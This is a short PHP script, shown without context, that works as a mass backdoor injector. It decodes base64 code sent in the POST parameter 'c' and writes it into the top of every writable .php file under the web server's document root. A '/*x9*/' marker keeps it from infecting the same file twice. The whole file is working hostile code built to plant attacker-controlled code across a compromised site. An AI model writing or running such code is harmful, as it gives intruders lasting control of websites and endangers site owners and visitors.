<?php
$mark = '/*x9*/';
$add = $mark . base64_decode($_POST['c']) . $mark;
$all = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($_SERVER['DOCUMENT_ROOT']));
foreach ($all as $f) {
    if (substr($f, -4) !== '.php' || !is_writable($f)) continue;
    $src = file_get_contents($f);
    if (strpos($src, $mark) !== false) continue;
    $src = preg_replace('/^<\?php/', '<?php ' . $add, $src, 1);
    file_put_contents($f, $src);
}
